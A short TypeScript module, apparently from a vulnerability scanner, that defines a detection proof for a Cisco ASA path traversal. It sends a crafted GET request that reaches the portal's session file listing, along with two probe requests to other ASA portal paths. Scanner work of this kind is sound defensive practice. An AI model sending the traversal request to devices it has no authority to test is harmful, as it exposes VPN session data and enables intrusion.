import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof('cisco-asa-traversal', get('/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions'), [
    get('/+CSCOT+/oem-customization?app=AnyConnect&name=x'),
    get('/+CSCOE+/logon.html'),
  ]),
]
